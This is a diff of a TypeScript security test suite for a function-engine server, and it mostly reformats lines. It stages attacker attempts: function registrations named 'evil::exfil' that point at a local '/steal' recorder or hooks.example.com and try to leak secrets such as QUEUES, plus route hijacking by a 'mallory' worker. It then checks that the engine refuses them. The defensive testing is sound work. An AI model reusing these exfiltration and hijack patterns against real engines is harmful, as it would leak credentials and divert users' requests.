@@ -53,7 +53,11 @@ class RawConn {
     for (const f of frames) this.ws.send(JSON.stringify(f));
     const invocation_id = crypto.randomUUID();
     this.ws.send(JSON.stringify({ type: "invokefunction", invocation_id, function_id: "engine::functions::list", data: {} }));
-    await eventually(() => this.frames.some((f) => f.type === "invocationresult" && f.invocation_id === invocation_id), 10_000, "round trip");
+    await eventually(
+      () => this.frames.some((f) => f.type === "invocationresult" && f.invocation_id === invocation_id),
+      10_000,
+      "round trip",
+    );
     return this.frames.slice(from).filter((f) => !(f.type === "invocationresult" && f.invocation_id === invocation_id));
   }
   close(): void {
@@ -64,13 +68,22 @@ class RawConn {
 const errorsOf = (frames: Frame[]) => frames.filter((f) => f.type === "error").map((f) => f.error as { code: string; message: string });
 
 async function connect(engine: EngineServer, sub: string, workerName: string): Promise<IIIClient> {
-  return registerWorker(engine.wsUrl, { workerName, headers: bearer(await token(sub)), otel: { enabled: false }, invocationTimeoutMs: 10_000 });
+  return registerWorker(engine.wsUrl, {
+    workerName,
+    headers: bearer(await token(sub)),
+    otel: { enabled: false },
+    invocationTimeoutMs: 10_000,
+  });
 }
 
 /** What the engine has registered: functions and trigger bindings, as listed. */
 async function catalog(w: IIIClient): Promise<{ functions: unknown[]; triggers: unknown[] }> {
-  const f = (await w.trigger({ function_id: "engine::functions::list", payload: { include_internal: true } })) as { functions: { function_id: string }[] };
-  const t = (await w.trigger({ function_id: "engine::registered-triggers::list", payload: { include_internal: true } })) as { registered_triggers: { id: string }[] };
+  const f = (await w.trigger({ function_id: "engine::functions::list", payload: { include_internal: true } })) as {
+    functions: { function_id: string }[];
+  };
+  const t = (await w.trigger({ function_id: "engine::registered-triggers::list", payload: { include_internal: true } })) as {
+    registered_triggers: { id: string }[];
+  };
   return {
     functions: f.functions.map((x) => x.function_id).sort(),
     triggers: t.registered_triggers.map((x) => JSON.stringify(x)).sort(),
@@ -80,7 +93,11 @@ async function catalog(w: IIIClient): Promise<{ functions: unknown[]; triggers: 
 const registerFunctionFrame = (id: string, invocation: unknown): Frame => ({ type: "registerfunction", id, invocation });
 
 /** A local server that records every request it gets (the attacker's URL). */
-async function witness(): Promise<{ url: string; seen: { url: string; headers: http.IncomingHttpHeaders; body: string }[]; close(): Promise<void> }> {
+async function witness(): Promise<{
+  url: string;
+  seen: { url: string; headers: http.IncomingHttpHeaders; body: string }[];
+  close(): Promise<void>;
+}> {
   const seen: { url: string; headers: http.IncomingHttpHeaders; body: string }[] = [];
   const server = http.createServer((req, res) => {
     const chunks: Buffer[] = [];
@@ -152,8 +169,18 @@ describe("an engine that allows loopback HTTP functions", () => {
       }
       // One text per auth type: an existing var (QUEUES, DB_PASSWORD, …) reads like a made-up name.
       for (const [type, texts] of refusals) expect(new Set(texts), type).toEqual(new Set([texts[0]]));
-      expect(errorsOf(await raw.exchange(registerFunctionFrame("evil::exfil", { url: `${sink.url}/steal`, auth: { type: "api_key", header: "x", value_key: "QUEUES" } })))[0]!.message).toBe(
-        errorsOf(await raw.exchange(registerFunctionFrame("evil::exfil", { url: `${sink.url}/steal`, auth: { type: "api_key", header: "x", value_key: MADE_UP } })))[0]!.message,
+      expect(
+        errorsOf(
+          await raw.exchange(
+            registerFunctionFrame("evil::exfil", { url: `${sink.url}/steal`, auth: { type: "api_key", header: "x", value_key: "QUEUES" } }),
+          ),
+        )[0]!.message,
+      ).toBe(
+        errorsOf(
+          await raw.exchange(
+            registerFunctionFrame("evil::exfil", { url: `${sink.url}/steal`, auth: { type: "api_key", header: "x", value_key: MADE_UP } }),
+          ),
+        )[0]!.message,
       );
 
       expect(await catalog(alice)).toEqual(before);
@@ -218,12 +245,17 @@ describe("an engine that allows loopback HTTP functions", () => {
     await eventually(() => sdkErrors.filter((e) => /held by another owner/.test(e)).length >= 2, 10_000, "both refusals");
     // The same through engine::register_trigger answers the typed error.
     await expect(
-      mallory.trigger({ function_id: "engine::register_trigger", payload: { trigger_type: "http", function_id: "evil::steal", config: { api_path: "sec/acct/:x" } } }),
+      mallory.trigger({
+        function_id: "engine::register_trigger",
+        payload: { trigger_type: "http", function_id: "evil::steal", config: { api_path: "sec/acct/:x" } },
+      }),
     ).rejects.toMatchObject({ code: "forbidden" });
     expect(await catalog(alice)).toEqual(before);
 
     for (let i = 1; i <= 3; i++) {
-      const res = await fetch(`${engine.url}/sec/acct/${i}`, { headers: { "x-api-key": `alice-key-${i}`, authorization: `Bearer alice-session-${i}` } });
+      const res = await fetch(`${engine.url}/sec/acct/${i}`, {
+        headers: { "x-api-key": `alice-key-${i}`, authorization: `Bearer alice-session-${i}` },
+      });
       expect(await res.json()).toEqual({ owner: "alice", id: String(i) });
     }
     expect(toMallory).toBe(0);
@@ -257,7 +289,11 @@ describe("an engine that allows loopback HTTP functions", () => {
       return { body: { stored: true } };
     });
     alice.registerTrigger({ type: "http", function_id: "upload::put", config: { api_path: "sec/upload", http_method: "POST" } });
-    await eventually(async () => (await fetch(`${engine.url}/sec/upload`, { method: "POST", body: "x" })).status === 200, 15_000, "upload route");
+    await eventually(
+      async () => (await fetch(`${engine.url}/sec/upload`, { method: "POST", body: "x" })).status === 200,
+      15_000,
+      "upload route",
+    );
     calls = 0;
     const before = await catalog(alice);
 
@@ -270,36 +306,37 @@ describe("an engine that allows loopback HTTP functions", () => {
     // leaves such bytes in the socket buffers; the pace keeps it behind, and an attempt that still
     // sees the reset is made again (never more than three), each judged by the same assertions.
     const PACE_MS = 8;
-    const attempt = () => new Promise<{ status: number; sentWhenAnswered: number; ms: number; body: string } | "reset">((resolve, reject) => {
-      const started = Date.now();
-      let sent = 0;
-      let answered = false;
-      const req = http.request(`${engine.url}/sec/upload`, { method: "POST", headers: { "content-type": "application/octet-stream" } }); // no length: chunked
-      req.on("response", (res) => {
-        answered = true;
-        const sentWhenAnswered = sent;
-        const ms = Date.now() - started;
-        let body = "";
-        res.on("data", (d: Buffer) => (body += d));
-        res.on("end", () => {
-          req.destroy();
-          resolve({ status: res.statusCode ?? 0, sentWhenAnswered, ms, body });
+    const attempt = () =>
+      new Promise<{ status: number; sentWhenAnswered: number; ms: number; body: string } | "reset">((resolve, reject) => {
+        const started = Date.now();
+        let sent = 0;
+        let answered = false;
+        const req = http.request(`${engine.url}/sec/upload`, { method: "POST", headers: { "content-type": "application/octet-stream" } }); // no length: chunked
+        req.on("response", (res) => {
+          answered = true;
+          const sentWhenAnswered = sent;
+          const ms = Date.now() - started;
+          let body = "";
+          res.on("data", (d: Buffer) => (body += d));
+          res.on("end", () => {
+            req.destroy();
+            resolve({ status: res.statusCode ?? 0, sentWhenAnswered, ms, body });
+          });
         });
+        // The server may close its side once it has answered: that is the point.
+        req.on("error", (e: NodeJS.ErrnoException) => {
+          if (!answered) e.code === "ECONNRESET" ? resolve("reset") : reject(e);
+        });
+        const pump = async () => {
+          while (!answered && sent < TOTAL && !req.destroyed) {
+            sent += CHUNK.length;
+            await new Promise<void>((r) => req.write(CHUNK, () => r()));
+            await new Promise((r) => setTimeout(r, PACE_MS));
+          }
+          if (!answered && !req.destroyed) req.end();
+        };
+        void pump();
       });
-      // The server may close its side once it has answered: that is the point.
-      req.on("error", (e: NodeJS.ErrnoException) => {
-        if (!answered) (e.code === "ECONNRESET" ? resolve("reset") : reject(e));
-      });
-      const pump = async () => {
-        while (!answered && sent < TOTAL && !req.destroyed) {
-          sent += CHUNK.length;
-          await new Promise<void>((r) => req.write(CHUNK, () => r()));
-          await new Promise((r) => setTimeout(r, PACE_MS));
-        }
-        if (!answered && !req.destroyed) req.end();
-      };
-      void pump();
-    });
     let outcome = await attempt();
     for (let i = 1; outcome === "reset" && i < 3; i++) {
       console.log(`chunked upload attempt ${i} was reset by the local dev server before its answer arrived; trying again`);
@@ -356,8 +393,22 @@ describe("an engine with the default URL policy", () => {
 
       // The secret refusal reads the same here too, for a var that exists and one that does not.
       const [queues, madeUp] = [
-        errorsOf(await raw.exchange(registerFunctionFrame("evil::q", { url: "https://hooks.example.com/x", auth: { type: "api_key", header: "x", value_key: "QUEUES" } }))),
-        errorsOf(await raw.exchange(registerFunctionFrame("evil::q", { url: "https://hooks.example.com/x", auth: { type: "api_key", header: "x", value_key: MADE_UP } }))),
+        errorsOf(
+          await raw.exchange(
+            registerFunctionFrame("evil::q", {
+              url: "https://hooks.example.com/x",
+              auth: { type: "api_key", header: "x", value_key: "QUEUES" },
+            }),
+          ),
+        ),
+        errorsOf(
+          await raw.exchange(
+            registerFunctionFrame("evil::q", {
+              url: "https://hooks.example.com/x",
+              auth: { type: "api_key", header: "x", value_key: MADE_UP },
+            }),
+          ),
+        ),
       ];
       expect(queues[0]?.message).toBeDefined();
       expect(queues[0]?.message).toBe(madeUp[0]?.message);
